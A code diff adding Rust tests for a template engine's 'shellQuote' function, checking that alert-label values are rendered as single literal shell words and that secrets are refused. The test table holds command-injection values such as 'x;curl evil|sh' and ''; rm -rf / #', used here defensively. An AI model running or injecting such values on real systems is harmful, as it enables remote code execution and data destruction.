@@ -345,3 +345,81 @@ fn odd_inputs_never_panic() {
             .contains("nests")
     );
 }
+
+/// The words `sh` makes of `s` when it is nothing but single-quoted strings and
+/// spaces (what `shellQuote` must produce); `None` when anything else (a `$`, a `;`,
+/// a backtick) stands outside the quotes, where the shell would act on it.
+fn single_quoted_words(s: &str) -> Option<Vec<String>> {
+    let mut words = Vec::new();
+    let mut word: Option<String> = None;
+    let mut chars = s.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                let w = word.get_or_insert_with(String::new);
+                for q in chars.by_ref() {
+                    if q == '\'' {
+                        break;
+                    }
+                    w.push(q);
+                }
+            }
+            '\\' if chars.clone().next() == Some('\'') => {
+                chars.next();
+                word.get_or_insert_with(String::new).push('\'');
+            }
+            ' ' => words.extend(word.take()),
+            _ => return None,
+        }
+    }
+    words.extend(word);
+    Some(words)
+}
+
+#[test]
+fn shell_quote_makes_alert_text_one_literal_word() {
+    let table = [
+        ("x;curl evil|sh", "'x;curl evil|sh'"),
+        ("$(curl evil)", "'$(curl evil)'"),
+        ("`curl evil`", "'`curl evil`'"),
+        ("it's", r"'it'\''s'"),
+        ("'; rm -rf / #", r"''\''; rm -rf / #'"),
+        ("a\nb", "'a\nb'"),
+        ("", "''"),
+        ("redis-0.prod:6379", "'redis-0.prod:6379'"),
+    ];
+    for (label, want) in table {
+        let ctx = json!({"alert": {"labels": {"instance": label}}});
+        let got = render("{{ shellQuote .alert.labels.instance }}", &ctx).unwrap();
+        assert_eq!(got, want, "{label:?}");
+        assert_eq!(
+            single_quoted_words(&got),
+            Some(vec![label.to_string()]),
+            "{label:?} must come back as one word"
+        );
+        // Piped, as most templates write it.
+        let piped = render("{{ .alert.labels.instance | shellQuote }}", &ctx).unwrap();
+        assert_eq!(piped, want);
+    }
+    // In an arg, `$` is doubled too, and Kubernetes undoes that before the shell runs.
+    let ctx = json!({"alert": {"labels": {"instance": "$(REDIS_URL);`id`"}}});
+    let arg = render_arg("redis-cli -h {{ shellQuote .alert.labels.instance }}", &ctx).unwrap();
+    assert_eq!(arg, "redis-cli -h '$$(REDIS_URL);`id`'");
+    // Several values are several words; a missing one is an empty word in its place.
+    assert_eq!(
+        r(r#"{{ shellQuote "a b" .alert.labels.nope "c" }}"#),
+        "'a b' '' 'c'"
+    );
+    assert_eq!(
+        single_quoted_words("'a b' '' 'c'"),
+        Some(vec!["a b".into(), String::new(), "c".into()])
+    );
+    // `quote` is no shell quoting: its double quotes leave `$(...)` live.
+    assert_eq!(single_quoted_words(&r(r#"{{ quote "$(id)" }}"#)), None);
+}
+
+#[test]
+fn shell_quote_refuses_a_secret() {
+    let e = render_env(r#"{{ secret "pw" | shellQuote }}"#, &json!({})).unwrap_err();
+    assert!(e.message.contains("shellQuote cannot use a secret"), "{e}");
+}
